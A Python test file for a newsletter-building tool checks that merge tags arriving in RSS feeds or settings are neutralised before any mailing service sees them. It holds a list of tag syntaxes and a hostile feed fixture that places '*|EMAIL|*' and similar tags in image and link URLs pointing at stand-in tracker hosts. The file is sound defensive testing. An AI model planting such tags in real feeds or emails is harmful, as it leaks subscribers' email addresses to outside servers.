"""Merge tags from feeds never reach a mailing service (issue 10).

A feed that writes `*|EMAIL|*` into an image URL would, built for Mailchimp, send every
subscriber's address to its own server when the email is opened. Feeds are served over
real HTTP on loopback and built for every mailing-service profile; `digest lint` must
flag any tag the profile did not write; the editors' own tags are broken unless they opt in.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from digest import esp
from digest.lint import lint_issue
from digest.mergetags import find_tags, neutralise, neutralise_url

from .conftest import DEMO_AS_OF, DEMO_ISSUE
from .feeds import rss
from .server import FeedServer, Reply

ATTACKS = [
    "*|EMAIL|*",
    "*|UNSUB|*",
    "{{ .Subscriber.Email }}",
    "{{{ pm:unsubscribe }}}",
    "{{ contact.EMAIL }}",
    "{% if subscriber %}x{% endif %}",
    "{$email}",
    "%recipient.email%",
    "%unsubscribe_url%",
    "<%asm_group_unsubscribe_raw_url%>",
    "[%first_name | friend%]",
    "[unsubscribe]",
    "[webversion]",
    "[Email]",
    "[firstname,fallback=friend]",
    "[[UNSUB_LINK_EN]]",
    "{{amazonSESUnsubscribeUrl}}",
    "{{ UnsubscribeURL }}",
    "{# comment #}",
]
IN_URL = ["*|EMAIL|*", "{{ .Subscriber.Email }}", "%recipient.email%", "[[EMAIL]]", "[Email]"]


@pytest.mark.parametrize("tag", ATTACKS)
def test_every_syntax_is_broken_in_text_and_stays_readable(tag: str) -> None:
    text = f"Before {tag} after"
    broken = neutralise(text)
    assert find_tags(text), "the lint vocabulary knows this syntax"
    assert find_tags(broken) == []
    assert broken.replace("\u200b", "") == text  # the reader sees the same text
    assert neutralise(broken) == broken


@pytest.mark.parametrize("tag", [*IN_URL, "*%7CEMAIL%7C*"])
def test_every_syntax_is_encoded_in_urls(tag: str) -> None:
    url = f"https://tracker.example/p.png?e={tag}#{tag}"
    safe = neutralise_url(url)
    assert find_tags(safe) == [] and safe.startswith("https://tracker.example/p.png?e=")
    assert neutralise_url(safe) == safe


def test_ordinary_text_and_urls_are_untouched() -> None:
    for text in ("50% of 1,200 [1] (2024) … café", "https://e.org/a%20b?q=%E2%80%99&x=[1]"):
        assert find_tags(text) == []
    assert neutralise("Libération: 50% [1]") == "Libération: 50% [1]"
    plain = "https://e.org/2025/12/released-today?utm_source=x&id=%C3%A9#top"
    assert neutralise_url(plain) == plain


def _hostile_feed(base: str) -> bytes:
    tag = "*|EMAIL|* {{ .Subscriber.Email }} %recipient.email% [Email] <%asm_x%>"
    return rss(
        [
            {
                "title": f"Defender released {tag}",
                "link": f"{base}/story?e=*|EMAIL|*&g={{{{ .Subscriber.Email }}}}",
                "guid": "mt-1",
                "pubDate": "18 Dec 2025 10:00:00 +0000",
                "description": f'<p>Freed {tag} [[UNSUB_LINK_EN]] {{$email}}</p><img src="'
                f'{base}/p.png?e=*|EMAIL|*&m=%unsubscribe_url%" alt="{tag}" width="600">'
                f'<a href="{base}/r?u={{{{ UnsubscribeURL }}}}" title="{tag}">more {tag}</a>',
                "raw": f"<author>*|FNAME|* {{{{ name }}}}</author><category>{{$email}}</category>"
                f'<enclosure url="{base}/e.jpg?e=*|EMAIL|*" type="image/jpeg" length="1"/>',
            }
        ],
        title="Attacker *|LIST:NAME|*",
    )


@pytest.fixture
def hostile_project(tmp_path: Path, digest):
    with FeedServer() as server:
        server.route("/feed.xml", Reply(200, _hostile_feed(server.base)))
        root = tmp_path / "p"
        (root / "feeds").mkdir(parents=True)
        (root / "digest.toml").write_text(
            '[newsletter]\nname = "T"\nsender = "T <t@example.org>"\n'
            "[fetch]\ntimeout = 5\ndeadline = 10\n"
            '[esp]\nunsubscribe_url = "https://t.example/unsubscribe"\n'
        )
        (root / "feeds" / "feeds.toml").write_text(
            f'[[feed]]\nname = "Hostile"\nurl = "{server.url("/feed.xml")}"\n'
        )
        result = digest("fetch", "-p", str(root), "--as-of", DEMO_AS_OF, "-q")
        assert result.exit_code == 0, result.output
    return root


def test_feed_merge_tags_reach_no_profile(digest, hostile_project: Path) -> None:
    for name in esp.PROFILES:
        result = digest(
            "build", "-p", str(hostile_project), "--as-of", DEMO_AS_OF, "--offline",
            "--force", "--esp", name, "-q",
        )  # fmt: skip
        assert result.exit_code == 0, (name, result.output)
        out = hostile_project / "out" / DEMO_ISSUE
        html, text = (out / "newsletter.html").read_text(), (out / "newsletter.txt").read_text()
        assert "Defender released" in html and "Defender released" in text
        manifest = json.loads((out / "manifest.json").read_text())
        codes = [f["code"] for f in manifest["lint"]["findings"]]
        assert "merge-tag" not in codes, (name, manifest["lint"]["findings"])
        chosen = esp.profile(name)
        own = {chosen.unsubscribe, chosen.web_version, chosen.preview} - {None}
        for body in (html, text):
            rest = body
            for tag in own:
                rest = rest.replace(tag, "")
            for raw in ("*|", "{{", "%recipient", "%unsubscribe_url%", "[Email]", "[[", "<%"):
                assert raw not in rest, (name, raw)


def test_lint_flags_foreign_tags_and_accepts_the_profiles_own() -> None:
    html = (
        '<!doctype html><html lang="en" dir="ltr"><head><style>@media (max-width:480px)'
        "{.a{width:100%!important}}</style></head><body><!--[if mso]><table><![endif]-->"
        '<div style="display:none">A preview of this week</div><p>Hi BODY</p>'
        '<a href="*|UNSUB|*">Unsubscribe</a></body></html>'
    )
    profile = esp.profile("mailchimp")

    def fill(body: str) -> str:
        return html.replace("BODY", body)

    def errors(body: str, text: str = "*|UNSUB|*") -> list[str]:
        report = lint_issue(body.encode(), text.encode(), None, profile=profile)
        return [f.message for f in report.findings if f.code == "merge-tag"]

    assert errors(fill("there")) == []
    assert errors(fill("*|EMAIL|*"))
    assert errors(fill("{{ UnsubscribeURL }}"))  # listmonk's own, not Mailchimp's
    assert errors(fill("there"), "*|UNSUB|* [Email]")
    assert errors(fill('<img src="https://x.example/?e=*%7CEMAIL%7C*">'))
    listmonk = esp.profile("listmonk")
    report = lint_issue(
        fill("x").replace("*|UNSUB|*", "{{ UnsubscribeURL }}").encode(),
        b"{{ UnsubscribeURL }}",
        None,
        profile=listmonk,
    )
    assert not [f for f in report.findings if f.code == "merge-tag"]


def _edits(project: Path, body: str) -> None:
    (project / "edits").mkdir(exist_ok=True)
    (project / "edits" / f"{DEMO_ISSUE}.toml").write_text(body)


def test_editors_tags_are_broken_unless_they_opt_in(digest, project: Path) -> None:
    args = ("build", "-p", str(project), "--as-of", DEMO_AS_OF, "--esp", "mailchimp", "-q")
    _edits(project, 'intro = "Dear *|FNAME|*, good news this week."\n')
    assert digest(*args).exit_code == 0
    out = project / "out" / DEMO_ISSUE
    html = (out / "newsletter.html").read_text()
    assert "*|FNAME|*" not in html and "Dear *\u200b|FNAME|\u200b*" in html
    _edits(project, 'merge_tags = true\nintro = "Dear *|FNAME|*, good news this week."\n')
    assert digest(*args, "--force").exit_code == 0
    html = (out / "newsletter.html").read_text()
    manifest = json.loads((out / "manifest.json").read_text())
    assert "Dear *|FNAME|*" in html and manifest["merge_tags"] == ["*|FNAME|*"]
    assert manifest["lint"]["ok"], manifest["lint"]["findings"]
    assert digest("lint", str(out)).exit_code == 0  # reads the opted-in tags back
    _edits(project, 'merge_tags = "yes"\n')
    result = digest(*args, "--force")
    assert result.exit_code == 2 and "merge_tags must be true or false" in result.output


def _settings(project: Path, **values: str) -> None:
    """Set [newsletter] and [theme] keys of the demo project's digest.toml."""
    import tomlkit

    path = project / "digest.toml"
    document = tomlkit.parse(path.read_text())
    for key, value in values.items():
        table, _, name = key.partition("__")
        document[table][name] = value  # type: ignore[index]
    path.write_text(tomlkit.dumps(document))


def test_settings_tags_are_broken_unless_they_opt_in(digest, project: Path) -> None:
    """Merge tags typed in digest.toml, like the editors' own, reach the email as text
    unless [newsletter] merge_tags = true; each is named with its file and line."""
    _settings(
        project,
        newsletter__tagline="Hello *|FNAME|*",
        newsletter__subject="*|FNAME|*, {name}: {date}",
        newsletter__website="https://example.org/?e=*|EMAIL|*",
        theme__footer_address="{{ unsubscribe }}",
    )
    args = ("build", "-p", str(project), "--as-of", DEMO_AS_OF, "--esp", "mailchimp")
    result = digest(*args)
    assert result.exit_code == 0, result.output
    warned = [line for line in result.stderr.splitlines() if "merge tag" in line]
    assert len(warned) == 4 and all("digest.toml:" in w for w in warned), warned
    assert "add merge_tags = true to [newsletter]" in warned[0]
    out = project / "out" / DEMO_ISSUE
    html, text = (out / "newsletter.html").read_text(), (out / "newsletter.txt").read_text()
    manifest = json.loads((out / "manifest.json").read_text())
    for body in (html, text):
        assert "*|FNAME|*" not in body and "*|EMAIL|*" not in body and "{{ unsub" not in body
    assert "Hello *\u200b|FNAME|\u200b*" in html and "e=%2A%7CEMAIL%7C%2A" in html
    assert manifest["subject"].startswith("*\u200b|FNAME|\u200b*, ")
    assert "merge_tags" not in manifest and manifest["lint"]["ok"], manifest["lint"]
    eml = (out / "newsletter.eml").read_bytes()
    assert b"*|FNAME|*" not in eml

    _settings(project, newsletter__merge_tags=True)  # type: ignore[arg-type]
    result = digest(*args, "--force")
    assert result.exit_code == 0 and "merge tag" not in result.stderr, result.output
    html = (out / "newsletter.html").read_text()
    manifest = json.loads((out / "manifest.json").read_text())
    assert "Hello *|FNAME|*" in html and "e=*|EMAIL|*" in html
    assert manifest["subject"].startswith("*|FNAME|*, ")
    assert set(manifest["merge_tags"]) == {"*|FNAME|*", "*|EMAIL|*", "{{ unsubscribe }}"}
    assert manifest["lint"]["ok"], manifest["lint"]["findings"]
    assert digest("lint", str(out)).exit_code == 0
